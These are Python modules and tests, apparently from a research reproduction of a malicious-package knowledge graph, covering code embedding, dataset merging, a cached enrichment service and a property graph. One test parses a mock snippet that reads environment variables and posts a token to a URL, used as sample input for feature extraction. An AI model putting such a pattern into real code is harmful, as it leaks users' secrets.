    import ast

    tree = ast.parse(
        "import os\n"
        "def send(url):\n"
        "    data = os.environ\n"
        "    return post(url, 'token-xyz')\n"
    )
    feats = set(iter_lexical_features(tree))
    assert "import:os" in feats
    assert "def:send" in feats
    assert "arg:url" in feats
    assert "attr:environ" in feats
    assert "str:token-xyz" in feats


def test_long_strings_not_used_as_features():
    import ast

    tree = ast.parse(f"x = {'a' * 100!r}")
    feats = set(iter_lexical_features(tree))
    assert not any(f.startswith("str:") for f in feats)


def test_cosine_similarity_handles_zero_vectors():
    z = np.zeros(4)
    assert cosine_similarity(z, z) == 0.0
    assert cosine_similarity(z, np.ones(4)) == 0.0


def test_cosine_similarity_unnormalised_inputs():
    a = np.array([2.0, 0.0])
    b = np.array([4.0, 0.0])
    assert cosine_similarity(a, b) == pytest.approx(1.0)
    c = np.array([0.0, 9.0])
    assert cosine_similarity(a, c) == pytest.approx(0.0)


def test_dim_is_configurable():
    small = AstEmbedder(dim=32)
    vec = small.embed_source(SOURCE_A)
    assert vec.shape == (32,)
    assert np.linalg.norm(vec) == pytest.approx(1.0)


# -- batch embedding: dedup, cache, parallel ----------------------------------

def _distinct_artifacts(count: int):
    """`count` artifacts with genuinely different code (unique SHA256s)."""
    return [
        _artifact(
            f"pkg{idx}",
            f"def handler_{idx}(payload):\n"
            f"    token_{idx} = payload.get('k{idx}')\n"
            f"    return [token_{idx}, {idx}]\n",
        )
        for idx in range(count)
    ]


def test_embed_many_parallel_is_byte_identical_to_serial(embedder):
    """The tentpole guarantee: worker processes change wall time, never
    a single byte of the matrix (batch is sized past PARALLEL_MIN_BATCH
    so the pool actually engages)."""
    artifacts = _distinct_artifacts(PARALLEL_MIN_BATCH + 8)
    serial = embedder.embed_many(artifacts, jobs=1)
    parallel = embedder.embed_many(artifacts, jobs=4)
    assert serial.tobytes() == parallel.tobytes()


def test_embed_many_deduplicates_before_embedding(embedder):
    """Duplicated artifacts are embedded once; every copy gets the row."""
    base = _distinct_artifacts(3)
    artifacts = base + [base[1], base[0]]
    matrix = embedder.embed_many(artifacts)
    assert np.array_equal(matrix[1], matrix[3])
    assert np.array_equal(matrix[0], matrix[4])


def test_embed_many_honours_and_updates_the_cache(embedder):
    artifacts = _distinct_artifacts(3)
    poisoned = np.zeros(embedder.dim)
    poisoned[0] = 1.0
    cache = {artifacts[0].sha256(): poisoned}
    matrix = embedder.embed_many(artifacts, cache=cache)
    # cached vectors are trusted verbatim, never recomputed
    assert np.array_equal(matrix[0], poisoned)
    # newly computed vectors land in the cache, keyed by sha256
    assert set(cache) == {a.sha256() for a in artifacts}
    assert np.array_equal(cache[artifacts[1].sha256()], matrix[1])


def test_embedder_fingerprint_tracks_every_result_knob():
    base = AstEmbedder()
    assert base.fingerprint() == AstEmbedder().fingerprint()
    for changed in (
        AstEmbedder(dim=128),
        AstEmbedder(structural_weight=0.3),
        AstEmbedder(lexical_weight=1.0),
        AstEmbedder(max_tokens=100),
    ):
        assert changed.fingerprint() != base.fingerprint()


def test_resolve_jobs():
    assert resolve_jobs(3) == 3
    assert resolve_jobs(1) == 1
    auto = resolve_jobs(0)
    assert auto >= 1
    assert resolve_jobs(-1) == auto
