"""Algebraic properties of dataset merging, via hypothesis."""

from __future__ import annotations

import pytest
from hypothesis import given, settings, strategies as st

from repro.collection.merge import diff_datasets, merge_datasets
from repro.collection.records import DatasetEntry, MalwareDataset, SourceClaim
from repro.ecosystem.package import PackageId, make_artifact

_SOURCES = ["snyk", "phylum", "tianwen", "datadog"]
_CODES = ["A = 1\n", "B = 2\n", "C = 3\n"]


@st.composite
def entries(draw, name_pool=("p0", "p1", "p2", "p3")):
    name = draw(st.sampled_from(name_pool))
    code_idx = name_pool.index(name) % len(_CODES)  # per-name stable code
    has_artifact = draw(st.booleans())
    claims = draw(
        st.lists(
            st.tuples(st.sampled_from(_SOURCES), st.integers(0, 500), st.booleans()),
            min_size=1,
            max_size=3,
        )
    )
    entry = DatasetEntry(
        package=PackageId("pypi", name, "1.0"),
        claims=[SourceClaim(s, d, share) for s, d, share in claims],
        downloads=draw(st.integers(0, 1000)),
        release_day=draw(st.one_of(st.none(), st.integers(0, 500))),
    )
    if has_artifact:
        entry.artifact = make_artifact(
            "pypi", name, "1.0", {"pkg/m.py": _CODES[code_idx]}
        )
        entry.artifact_origin = "source:test"
    return entry


@st.composite
def datasets(draw):
    pool = draw(
        st.lists(entries(), min_size=0, max_size=4)
    )
    unique = {}
    for entry in pool:
        unique.setdefault(entry.package, entry)
    return MalwareDataset(entries=list(unique.values()), reports=[])


def _canonical(dataset: MalwareDataset):
    """Order-insensitive fingerprint of a dataset's knowledge."""
    out = []
    for entry in sorted(dataset.entries, key=lambda e: str(e.package)):
        claims = sorted(
            (c.source, c.report_day, c.shares_artifact) for c in entry.claims
        )
        out.append(
            (
                str(entry.package),
                tuple(claims),
                entry.available,
                entry.downloads,
            )
        )
    return out


@given(datasets(), datasets())
@settings(max_examples=80, deadline=None)
def test_merge_commutative_on_knowledge(a, b):
    left = merge_datasets(a, b)
    right = merge_datasets(b, a)
    # claims/artifacts/downloads agree regardless of merge order; the
    # earliest-day + sticky-share rules are symmetric
    assert _canonical(left) == _canonical(right)


@given(datasets())
@settings(max_examples=60, deadline=None)
def test_merge_idempotent(ds):
    merged = merge_datasets(ds, ds)
    assert _canonical(merged) == _canonical(merge_datasets(merged, ds))
    assert len(merged) == len(ds)


@given(datasets(), datasets())
@settings(max_examples=60, deadline=None)
def test_merge_covers_both_inputs(a, b):
    merged = merge_datasets(a, b)
    keys = {e.package for e in merged.entries}
    assert keys == {e.package for e in a.entries} | {e.package for e in b.entries}
    for source_ds in (a, b):
        for entry in source_ds.entries:
            target = merged.get(entry.package)
            assert entry.sources <= target.sources
            if entry.available:
                assert target.available


@given(datasets(), datasets())
@settings(max_examples=60, deadline=None)
def test_diff_after_merge_shows_no_additions(a, b):
    merged = merge_datasets(a, b)
    diff = diff_datasets(merged, merge_datasets(merged, b))
    assert diff.is_empty
