"""Sharded LRU caching and the lock-free snapshot service.

A production enrichment endpoint sees the same indicators over and over
(the same compromised package queried by every downstream scanner), so
the service fronts the engine with a bounded LRU keyed on the
indicator's normalised form. ``batch_enrich`` additionally deduplicates
within the request, which is what lets a million-indicator stream with
heavy repetition be answered with a few thousand engine calls and zero
graph walks.

Concurrency model (the part a million-user front end cares about):

* Reads are **lock-free** at the service level. The engine, its
  :class:`~repro.service.index.IntelIndex` and the query engine are
  published together as one immutable :class:`ServiceSnapshot`; a
  request loads the snapshot with a single atomic attribute read and
  resolves everything against that generation. No request ever takes
  ``service.lock``.
* Writes (``refresh``/``invalidate``) serialise on ``service.lock``,
  build the next state off to the side (a cloned index, see
  :meth:`~repro.service.index.IntelIndex.clone`), and install it with
  one reference assignment. A reader holds either the old snapshot or
  the new one — never a mix.
* The LRU is sharded N ways by cache-key hash so distinct-key lookups
  contend on different locks; each :class:`LRUCache` shard keeps its own
  exact hit/miss/eviction books and ``stats()`` sums them, so
  ``hits + misses == gets`` holds across shards and generations.
* Cache keys are tagged with the snapshot's generation. A straggler
  thread still holding generation *g* can only ever store results under
  *g*'s keys, which generation *g+1* readers never look up — a refresh
  can therefore never be poisoned by a stale verdict racing the swap.
"""

from __future__ import annotations

import threading
from collections import OrderedDict
from dataclasses import dataclass
from typing import Dict, Hashable, List, Optional, Sequence

from repro.core.malgraph import MalGraph
from repro.core.query import QueryEngine
from repro.service.enrich import EnrichmentEngine, EnrichmentResult, Indicator
from repro.service.feed import FeedExporter, feed_item
from repro.service.index import IntelIndex
from repro.service.webhook import WebhookDispatcher

#: Default shard count for the service LRU — enough that eight handler
#: threads rarely collide on one shard lock, small enough that a tiny
#: test capacity still leaves every shard a slot.
DEFAULT_CACHE_SHARDS = 8


class LRUCache:
    """Bounded least-recently-used map with hit/miss/eviction counters.

    Safe for concurrent use: every operation (including the counter
    updates) runs under one reentrant lock, so ``hits + misses`` always
    equals the number of ``get`` calls, even under thread churn. This is
    the single-shard primitive; the service fronts the engine with a
    :class:`ShardedLRUCache` built out of these.
    """

    def __init__(self, capacity: int = 4096):
        if capacity < 1:
            raise ValueError(f"capacity must be >= 1, got {capacity}")
        self.capacity = capacity
        self.hits = 0
        self.misses = 0
        self.evictions = 0
        self._lock = threading.RLock()
        self._items: "OrderedDict[Hashable, object]" = OrderedDict()

    def __len__(self) -> int:
        with self._lock:
            return len(self._items)

    def __contains__(self, key: Hashable) -> bool:
        with self._lock:
            return key in self._items

    def get(self, key: Hashable):
        """The cached value (counted as hit/miss), or None."""
        with self._lock:
            try:
                value = self._items[key]
            except KeyError:
                self.misses += 1
                return None
            self.hits += 1
            self._items.move_to_end(key)
            return value

    def put(self, key: Hashable, value) -> None:
        with self._lock:
            self._items[key] = value
            self._items.move_to_end(key)
            if len(self._items) > self.capacity:
                self._items.popitem(last=False)
                self.evictions += 1

    def clear(self) -> None:
        with self._lock:
            self._items.clear()

    def stats(self) -> Dict[str, int]:
        with self._lock:
            return {
                "size": len(self._items),
                "capacity": self.capacity,
                "hits": self.hits,
                "misses": self.misses,
                "evictions": self.evictions,
            }


class ShardedLRUCache:
    """N independent :class:`LRUCache` shards addressed by key hash.

    Distinct keys land on distinct shard locks, so concurrent readers
    only contend when they touch the *same* shard — the global cache
    lock of the pre-snapshot service is gone. Capacity divides across
    shards (total bound is preserved: ``sum(shard.capacity) >=
    capacity`` only when shards evenly divide; we round up per shard and
    cap the reported capacity at the configured total).

    Counters stay exact because each shard counts under its own lock and
    :meth:`stats` sums them: ``hits + misses == gets`` holds for the sum
    exactly as it does per shard.
    """

    def __init__(self, capacity: int = 4096, shards: int = DEFAULT_CACHE_SHARDS):
        if capacity < 1:
            raise ValueError(f"capacity must be >= 1, got {capacity}")
        if shards < 1:
            raise ValueError(f"shards must be >= 1, got {shards}")
        shards = min(shards, capacity)  # never hand a shard capacity 0
        self.capacity = capacity
        per_shard = -(-capacity // shards)  # ceil division
        self._shards = tuple(LRUCache(per_shard) for _ in range(shards))

    @property
    def shard_count(self) -> int:
        return len(self._shards)

    def _shard(self, key: Hashable) -> LRUCache:
        return self._shards[hash(key) % len(self._shards)]

    def __len__(self) -> int:
        return sum(len(shard) for shard in self._shards)

    def __contains__(self, key: Hashable) -> bool:
        return key in self._shard(key)

    @property
    def hits(self) -> int:
        return sum(shard.hits for shard in self._shards)

    @property
    def misses(self) -> int:
        return sum(shard.misses for shard in self._shards)

    @property
    def evictions(self) -> int:
        return sum(shard.evictions for shard in self._shards)

    def get(self, key: Hashable):
        return self._shard(key).get(key)

    def put(self, key: Hashable, value) -> None:
        self._shard(key).put(key, value)

    def clear(self) -> None:
        for shard in self._shards:
            shard.clear()

    def stats(self) -> Dict[str, int]:
        """Shard-summed counters (the exact-accounting anchor)."""
        return {
            "size": len(self),
            "capacity": self.capacity,
            "shards": len(self._shards),
            "hits": self.hits,
            "misses": self.misses,
            "evictions": self.evictions,
        }


@dataclass(frozen=True)
class ServiceSnapshot:
    """One immutable published generation of the service's read state.

    Everything a request needs — the engine (and through it the index)
    and the query engine — travels together, so a request that loaded
    generation *g* resolves every lookup, group walk and cache probe
    against *g* even while a refresh publishes *g+1* next to it.
    """

    generation: int
    engine: EnrichmentEngine
    query_engine: Optional[QueryEngine] = None

    @property
    def index(self) -> IntelIndex:
        return self.engine.index


class EnrichmentService:
    """Snapshot-fronted enrichment: the object the HTTP server exposes.

    The read path (:meth:`enrich`, :meth:`batch_enrich`, :meth:`stats`)
    never locks at the service level: it loads ``self._snapshot`` once
    (an atomic reference read) and works entirely against that
    generation, probing the sharded LRU under per-shard locks only.
    ``lock`` is the **writer** lock: :func:`repro.service.refresh`
    serialises refreshes on it, builds the next index off to the side
    and installs it via :meth:`publish` — readers never wait on it.
    """

    def __init__(
        self,
        engine: EnrichmentEngine,
        capacity: int = 4096,
        degraded: bool = False,
        query_engine: Optional[QueryEngine] = None,
        shards: int = DEFAULT_CACHE_SHARDS,
        source_health: Optional[Dict[str, Dict]] = None,
        webhook: Optional[WebhookDispatcher] = None,
    ):
        self.cache = ShardedLRUCache(capacity, shards=shards)
        #: writer lock — refresh/invalidate only; never on the read path
        self.lock = threading.RLock()
        #: whether the backing collection artifact was built degraded
        #: (see repro.reliability) — surfaced by /v1/healthz and /v1/stats.
        self.degraded = degraded
        #: per-source connector health from the collection run (empty
        #: when the artifact predates connectors) — surfaced by
        #: /v1/healthz, /v1/stats and the metrics ``connectors`` section.
        self.source_health = dict(source_health or {})
        if self.source_health and not engine.source_health:
            engine.source_health = dict(self.source_health)
        #: optional push channel for new detections on refresh.
        self.webhook = webhook
        #: the /v1/feed exporter (generation-stable cursor pagination).
        self.feed = FeedExporter(self)
        self._snapshot = ServiceSnapshot(
            generation=0, engine=engine, query_engine=query_engine
        )

    # -- snapshot plumbing -------------------------------------------------
    @property
    def snapshot(self) -> ServiceSnapshot:
        """The currently published generation (one atomic read)."""
        return self._snapshot

    @property
    def engine(self) -> EnrichmentEngine:
        return self._snapshot.engine

    @property
    def index(self) -> IntelIndex:
        return self._snapshot.engine.index

    @property
    def query_engine(self) -> Optional[QueryEngine]:
        return self._snapshot.query_engine

    @property
    def generation(self) -> int:
        return self._snapshot.generation

    def publish(self, index: IntelIndex) -> ServiceSnapshot:
        """Install ``index`` as the next generation (writer-lock held).

        Wraps the index in a fresh engine carrying the outgoing engine's
        tuning (squat index, distances), bumps the generation, swaps the
        snapshot with one assignment and clears the cache — old-
        generation entries would never be looked up again anyway (keys
        are generation-tagged), clearing just returns the memory.
        """
        with self.lock:
            old = self._snapshot
            engine = EnrichmentEngine(
                index,
                squat_index=old.engine.squat_index,
                near_distance=old.engine.near_distance,
                related_limit=old.engine.related_limit,
                source_health=old.engine.source_health,
            )
            snapshot = ServiceSnapshot(
                generation=old.generation + 1,
                engine=engine,
                query_engine=old.query_engine,
            )
            fresh = (
                self._new_detections(old.index, index)
                if self.webhook is not None
                else []
            )
            self._snapshot = snapshot
            self.cache.clear()
        if self.webhook is not None and fresh:
            # Outside the writer lock: enqueueing is non-blocking, but a
            # webhook has no business extending the critical section.
            self.webhook.notify(fresh, generation=snapshot.generation)
        return snapshot

    @staticmethod
    def _new_detections(old_index: IntelIndex, new_index: IntelIndex) -> List[Dict]:
        """Feed items for packages the outgoing generation did not know."""
        old_dataset = old_index.dataset
        return [
            feed_item(entry)
            for entry in new_index.dataset.entries
            if old_dataset.get(entry.package) is None
        ]

    # -- the read path (lock-free) ----------------------------------------
    def enrich(self, indicator: Indicator) -> EnrichmentResult:
        """Cached single-indicator enrichment against one generation."""
        return self._enrich_in(self._snapshot, indicator)

    def _enrich_in(
        self, snapshot: ServiceSnapshot, indicator: Indicator
    ) -> EnrichmentResult:
        key = (snapshot.generation, indicator.key())
        held = self.cache.get(key)
        if held is not None:
            return held
        result = snapshot.engine.enrich(indicator)
        self.cache.put(key, result)
        return result

    def batch_enrich(self, indicators: Sequence[Indicator]) -> List[EnrichmentResult]:
        """Enrich a stream, resolving each distinct indicator once.

        Duplicates within the batch are answered from the batch-local
        table without touching the cache counters, so ``stats()`` reflects
        distinct-indicator traffic. The whole batch resolves against the
        snapshot loaded on entry, so a concurrent refresh cannot split
        one request across two index generations.
        """
        snapshot = self._snapshot
        resolved: Dict[tuple, EnrichmentResult] = {}
        results: List[EnrichmentResult] = []
        for indicator in indicators:
            key = indicator.key()
            held = resolved.get(key)
            if held is None:
                held = self._enrich_in(snapshot, indicator)
                resolved[key] = held
            results.append(held)
        return results

    def invalidate(self) -> None:
        """Drop every cached result (counters survive, entries don't)."""
        with self.lock:
            self.cache.clear()

    def stats(self) -> Dict:
        """Cache and index counters for the ``/v1/stats`` endpoint."""
        snapshot = self._snapshot
        stats = {
            "cache": self.cache.stats(),
            "index": snapshot.index.stats(),
            "generation": snapshot.generation,
            "collection": {"degraded": self.degraded},
        }
        # Only services built over connector-era artifacts carry health;
        # the key is absent (not empty) otherwise, keeping the stats
        # surface of health-less deployments byte-stable.
        if self.source_health:
            stats["sources"] = {
                key: dict(held) for key, held in self.source_health.items()
            }
        return stats


def build_service(
    malgraph: MalGraph,
    capacity: int = 4096,
    engine: Optional[EnrichmentEngine] = None,
    degraded: bool = False,
    shards: int = DEFAULT_CACHE_SHARDS,
    source_health: Optional[Dict[str, Dict]] = None,
    webhook: Optional[WebhookDispatcher] = None,
) -> EnrichmentService:
    """Index a built graph and wrap it in a cached service.

    ``degraded`` marks a service built over a collection artifact that
    was assembled under graceful degradation (data was given up);
    ``shards`` sets the LRU shard count (the ``repro serve --shards``
    knob); ``source_health`` is the collection run's per-connector
    lifecycle health (weights verdict confidence and surfaces in
    healthz/stats/metrics); ``webhook`` enables push of new detections
    on refresh.
    """
    if engine is None:
        engine = EnrichmentEngine(
            IntelIndex.build(malgraph), source_health=source_health
        )
    return EnrichmentService(
        engine,
        capacity=capacity,
        degraded=degraded,
        query_engine=QueryEngine(malgraph),
        shards=shards,
        source_health=source_health,
        webhook=webhook,
    )
