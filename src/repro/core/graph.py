"""Property graph (the paper's Neo4j substitute).

MALGRAPH stores one node per malicious package and typed edges for the
four relationships of Section III. Similar and co-existing relations are
complete subgraphs over large member sets (Table II counts 5.3M similar
edges over 6,320 nodes), so the graph stores *cliques* compactly — a
clique over ``n`` members contributes ``n * (n - 1)`` directed edges to
the counts without materialising them — alongside explicit pairwise
edges. Connected components treat both representations uniformly.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from enum import Enum
from typing import Dict, FrozenSet, Iterable, List, Optional, Sequence, Set, Tuple

from repro.errors import GraphError, NodeNotFoundError


class EdgeType(str, Enum):
    """The four relationships of Section III-A."""

    DUPLICATED = "duplicated"
    DEPENDENCY = "dependency"
    SIMILAR = "similar"
    COEXISTING = "coexisting"


@dataclass
class GraphStats:
    """Table II row: one edge type's subgraph statistics."""

    edge_type: EdgeType
    nodes: int
    directed_edges: int
    avg_out_degree: float
    avg_in_degree: float


class _UnionFind:
    """Weighted quick-union with path compression."""

    def __init__(self) -> None:
        self._parent: Dict[str, str] = {}
        self._size: Dict[str, int] = {}

    def add(self, item: str) -> None:
        if item not in self._parent:
            self._parent[item] = item
            self._size[item] = 1

    def find(self, item: str) -> str:
        root = item
        while self._parent[root] != root:
            root = self._parent[root]
        while self._parent[item] != root:
            self._parent[item], item = root, self._parent[item]
        return root

    def union(self, a: str, b: str) -> None:
        self.add(a)
        self.add(b)
        ra, rb = self.find(a), self.find(b)
        if ra == rb:
            return
        if self._size[ra] < self._size[rb]:
            ra, rb = rb, ra
        self._parent[rb] = ra
        self._size[ra] += self._size[rb]

    def groups(self) -> List[Set[str]]:
        clusters: Dict[str, Set[str]] = {}
        for item in self._parent:
            clusters.setdefault(self.find(item), set()).add(item)
        return list(clusters.values())


class PropertyGraph:
    """Typed multigraph over string node ids with clique compression."""

    def __init__(self) -> None:
        #: bumped on every mutation; cached views (e.g. the query layer's
        #: adjacency indexes) key their validity on it
        self._version = 0
        self._nodes: Dict[str, Dict] = {}
        self._edges: Dict[EdgeType, Set[Tuple[str, str]]] = {
            t: set() for t in EdgeType
        }
        # adjacency over pairwise edges only (cliques are resolved via
        # membership lists); keeps neighbors()/has_edge() O(degree)
        self._adjacency: Dict[EdgeType, Dict[str, Set[str]]] = {
            t: {} for t in EdgeType
        }
        self._cliques: Dict[EdgeType, List[FrozenSet[str]]] = {
            t: [] for t in EdgeType
        }
        self._clique_membership: Dict[EdgeType, Dict[str, List[int]]] = {
            t: {} for t in EdgeType
        }

    @property
    def version(self) -> int:
        """Mutation counter (monotonic; bumped by every add_*)."""
        return self._version

    # -- nodes ------------------------------------------------------------
    def add_node(self, node_id: str, **attrs) -> None:
        """Add or update a node; attributes merge."""
        self._version += 1
        self._nodes.setdefault(node_id, {}).update(attrs)

    def has_node(self, node_id: str) -> bool:
        return node_id in self._nodes

    def node(self, node_id: str) -> Dict:
        try:
            return self._nodes[node_id]
        except KeyError:
            raise NodeNotFoundError(f"unknown node {node_id!r}") from None

    def nodes(self) -> Iterable[str]:
        return self._nodes.keys()

    @property
    def node_count(self) -> int:
        return len(self._nodes)

    def _require(self, node_id: str) -> None:
        if node_id not in self._nodes:
            raise NodeNotFoundError(f"unknown node {node_id!r}")

    # -- edges ------------------------------------------------------------
    def add_edge(self, u: str, v: str, edge_type: EdgeType) -> None:
        """Add an undirected pairwise edge of the given type."""
        self._require(u)
        self._require(v)
        if u == v:
            raise GraphError(f"self-loop on {u!r} is not allowed")
        self._version += 1
        key = (u, v) if u <= v else (v, u)
        self._edges[edge_type].add(key)
        self._adjacency[edge_type].setdefault(u, set()).add(v)
        self._adjacency[edge_type].setdefault(v, set()).add(u)

    def add_clique(self, members: Sequence[str], edge_type: EdgeType) -> None:
        """Add a complete subgraph over ``members`` (stored compactly)."""
        unique = sorted(set(members))
        if len(unique) < 2:
            return
        for member in unique:
            self._require(member)
        self._version += 1
        index = len(self._cliques[edge_type])
        self._cliques[edge_type].append(frozenset(unique))
        for member in unique:
            self._clique_membership[edge_type].setdefault(member, []).append(index)

    def has_edge(self, u: str, v: str, edge_type: EdgeType) -> bool:
        if v in self._adjacency[edge_type].get(u, ()):
            return True
        for idx in self._clique_membership[edge_type].get(u, ()):
            if v in self._cliques[edge_type][idx]:
                return True
        return False

    def neighbors(self, node_id: str, edge_type: EdgeType) -> Set[str]:
        """All nodes adjacent to ``node_id`` via ``edge_type``."""
        self._require(node_id)
        found: Set[str] = set(self._adjacency[edge_type].get(node_id, ()))
        for idx in self._clique_membership[edge_type].get(node_id, ()):
            found.update(self._cliques[edge_type][idx])
        found.discard(node_id)
        return found

    def degree(self, node_id: str, edge_type: EdgeType) -> int:
        """Out-degree (= in-degree: relations are symmetric)."""
        return len(self.neighbors(node_id, edge_type))

    # -- counting -----------------------------------------------------------
    def touched_nodes(self, edge_type: EdgeType) -> Set[str]:
        """Nodes with at least one edge of this type."""
        nodes: Set[str] = set()
        for u, v in self._edges[edge_type]:
            nodes.add(u)
            nodes.add(v)
        for clique in self._cliques[edge_type]:
            nodes.update(clique)
        return nodes

    def directed_edge_count(self, edge_type: EdgeType) -> int:
        """Edge count in Table II's convention (ordered pairs).

        Overlaps between cliques and explicit edges are rare by
        construction (each edge type uses one representation), but pairs
        present in both are not double-counted.
        """
        pair_count = 0
        seen_pairs: Set[Tuple[str, str]] = set(self._edges[edge_type])
        pair_count += len(seen_pairs)
        for clique in self._cliques[edge_type]:
            members = sorted(clique)
            for i, u in enumerate(members):
                for v in members[i + 1 :]:
                    if (u, v) not in seen_pairs:
                        seen_pairs.add((u, v))
                        pair_count += 1
        return 2 * pair_count

    def directed_edge_count_fast(self, edge_type: EdgeType) -> int:
        """O(#cliques) edge count assuming cliques are disjoint, which
        holds for the clustering-derived edge types (each node belongs to
        exactly one similarity cluster / duplicate set)."""
        total = 2 * len(self._edges[edge_type])
        for clique in self._cliques[edge_type]:
            n = len(clique)
            total += n * (n - 1)
        return total

    def stats(self, edge_type: EdgeType, exact: bool = False) -> GraphStats:
        """Table II row for one edge type."""
        nodes = self.touched_nodes(edge_type)
        edges = (
            self.directed_edge_count(edge_type)
            if exact
            else self.directed_edge_count_fast(edge_type)
        )
        # Relations are symmetric, so each node's out-degree equals its
        # in-degree and the directed-edge total divided by the node count
        # is exactly Table II's "Ave. OutDegree" column.
        avg = edges / len(nodes) if nodes else 0.0
        return GraphStats(
            edge_type=edge_type,
            nodes=len(nodes),
            directed_edges=edges,
            avg_out_degree=avg,
            avg_in_degree=avg,
        )

    # -- components -----------------------------------------------------------
    def connected_components(
        self, edge_types: Optional[Iterable[EdgeType]] = None
    ) -> List[Set[str]]:
        """Connected components over the chosen edge types.

        Only nodes touched by at least one such edge appear (isolated
        nodes form no group, matching the paper's subgraph semantics).
        """
        selected = list(edge_types) if edge_types is not None else list(EdgeType)
        uf = _UnionFind()
        for edge_type in selected:
            for u, v in self._edges[edge_type]:
                uf.union(u, v)
            for clique in self._cliques[edge_type]:
                members = iter(sorted(clique))
                first = next(members)
                for other in members:
                    uf.union(first, other)
        return sorted(uf.groups(), key=lambda g: (-len(g), min(g)))

    # -- persistence --------------------------------------------------------
    def to_dict(self) -> dict:
        return {
            "nodes": {node: dict(attrs) for node, attrs in self._nodes.items()},
            "edges": {
                t.value: sorted(list(pair) for pair in pairs)
                for t, pairs in self._edges.items()
            },
            "cliques": {
                t.value: [sorted(c) for c in cliques]
                for t, cliques in self._cliques.items()
            },
        }

    @classmethod
    def from_dict(cls, raw: dict) -> "PropertyGraph":
        graph = cls()
        for node, attrs in raw.get("nodes", {}).items():
            graph.add_node(node, **attrs)
        for type_name, pairs in raw.get("edges", {}).items():
            edge_type = EdgeType(type_name)
            for u, v in pairs:
                graph.add_edge(u, v, edge_type)
        for type_name, cliques in raw.get("cliques", {}).items():
            edge_type = EdgeType(type_name)
            for members in cliques:
                graph.add_clique(members, edge_type)
        return graph

    def dumps(self) -> str:
        return json.dumps(self.to_dict(), sort_keys=True)

    @classmethod
    def loads(cls, payload: str) -> "PropertyGraph":
        return cls.from_dict(json.loads(payload))