"""Config fingerprints: deterministic, complete, stage-distinct."""

from __future__ import annotations

import dataclasses

from repro.core.similarity import SimilarityConfig
from repro.pipeline import SCHEMA_VERSION, config_payload, fingerprint
from repro.pipeline.fingerprint import FINGERPRINT_LENGTH
from repro.world import WorldConfig

BASE = WorldConfig(seed=3, scale=0.2, horizon=400, detection_latency_scale=1.5)


def test_fingerprint_is_deterministic():
    a = fingerprint("world", BASE)
    b = fingerprint("world", WorldConfig(**dataclasses.asdict(BASE)))
    assert a == b


def test_fingerprint_shape():
    fp = fingerprint("world", BASE)
    assert len(fp) == FINGERPRINT_LENGTH
    assert set(fp) <= set("0123456789abcdef")


def test_every_world_knob_changes_the_fingerprint():
    base = fingerprint("world", BASE)
    for field in dataclasses.fields(WorldConfig):
        bumped = dataclasses.replace(
            BASE, **{field.name: getattr(BASE, field.name) + 1}
        )
        assert fingerprint("world", bumped) != base, field.name


#: Execution knobs change how the pipeline runs, never what it produces;
#: they are deliberately excluded from fingerprints.
EXECUTION_KNOBS = {"jobs"}


def test_every_similarity_knob_changes_the_fingerprint():
    similarity = SimilarityConfig()
    base = fingerprint("malgraph", BASE, similarity)
    variants = {
        "dim": similarity.dim * 2,
        "start_k": similarity.start_k + 1,
        "seed": similarity.seed + 1,
        "max_k": 4,
        "duplicate_eps": similarity.duplicate_eps / 2,
        "min_similarity": None,
        "structural_weight": similarity.structural_weight + 0.1,
        "lexical_weight": similarity.lexical_weight + 1.0,
    }
    assert set(variants) == {
        f.name for f in dataclasses.fields(SimilarityConfig)
    } - EXECUTION_KNOBS
    for name, value in variants.items():
        bumped = dataclasses.replace(similarity, **{name: value})
        assert fingerprint("malgraph", BASE, bumped) != base, name


def test_jobs_does_not_change_the_fingerprint():
    # The embedding matrix is byte-identical for any worker count, so a
    # parallel build must share the serial build's cache address.
    base = fingerprint("malgraph", BASE, SimilarityConfig())
    for jobs in (0, 4, 16):
        assert fingerprint("malgraph", BASE, SimilarityConfig(jobs=jobs)) == base


def test_stages_get_distinct_fingerprints():
    fps = {fingerprint(stage, BASE) for stage in ("world", "collection", "malgraph")}
    assert len(fps) == 3


def test_similarity_config_only_hashes_when_given():
    without = fingerprint("malgraph", BASE)
    with_default = fingerprint("malgraph", BASE, SimilarityConfig())
    assert without != with_default


def test_payload_carries_the_complete_config():
    payload = config_payload(BASE, SimilarityConfig())
    assert payload["world"] == dataclasses.asdict(BASE)
    expected = dataclasses.asdict(SimilarityConfig())
    for knob in EXECUTION_KNOBS:
        expected.pop(knob)
    assert payload["similarity"] == expected


def test_schema_version_feeds_the_digest(monkeypatch):
    import importlib

    # The package re-exports the function under the submodule's name, so
    # resolve the module itself for the patch.
    fp_module = importlib.import_module("repro.pipeline.fingerprint")

    before = fingerprint("world", BASE)
    monkeypatch.setattr(fp_module, "SCHEMA_VERSION", SCHEMA_VERSION + 1)
    assert fp_module.fingerprint("world", BASE) != before
