"""The Cypher-like query layer."""

from __future__ import annotations

import pytest

from repro.core.graph import EdgeType, PropertyGraph
from repro.core.query import (
    GraphQuerySession,
    QueryError,
    parse,
    run_query,
)


@pytest.fixture
def graph() -> PropertyGraph:
    g = PropertyGraph()
    g.add_node("npm:a@1", name="a", ecosystem="npm", release_day=10)
    g.add_node("npm:b@1", name="b", ecosystem="npm", release_day=20)
    g.add_node("pypi:c@1", name="c", ecosystem="pypi", release_day=30)
    g.add_node("pypi:cloud-kit@1", name="cloud-kit", ecosystem="pypi", release_day=5)
    g.add_edge("npm:a@1", "npm:b@1", EdgeType.DEPENDENCY)
    g.add_clique(["npm:a@1", "pypi:c@1", "pypi:cloud-kit@1"], EdgeType.SIMILAR)
    return g


# -- parsing ------------------------------------------------------------------

def test_parse_single_node_query():
    q = parse("MATCH (a) RETURN a")
    assert q.variables == ["a"]
    assert q.edge_type is None
    assert q.returns[0].label == "a"


def test_parse_edge_query_case_insensitive_type():
    q = parse("MATCH (x)-[:SIMILAR]-(y) RETURN x.name, y.name")
    assert q.edge_type is EdgeType.SIMILAR
    assert [r.label for r in q.returns] == ["x.name", "y.name"]


def test_parse_full_clause_set():
    q = parse(
        "MATCH (a) WHERE a.release_day >= 10 AND a.ecosystem = 'npm' "
        "RETURN a.name ORDER BY a.release_day DESC LIMIT 3"
    )
    assert q.where is not None
    assert q.order_desc
    assert q.limit == 3


@pytest.mark.parametrize(
    "bad",
    [
        "RETURN a",  # no MATCH
        "MATCH (a)",  # no RETURN
        "MATCH (a)-[:bogus]-(b) RETURN a",  # unknown edge type
        "MATCH (a)-[:similar]-(a) RETURN a",  # repeated variable
        "MATCH (a) RETURN b",  # unbound variable
        "MATCH (a) WHERE b.x = 1 RETURN a",  # unbound in WHERE
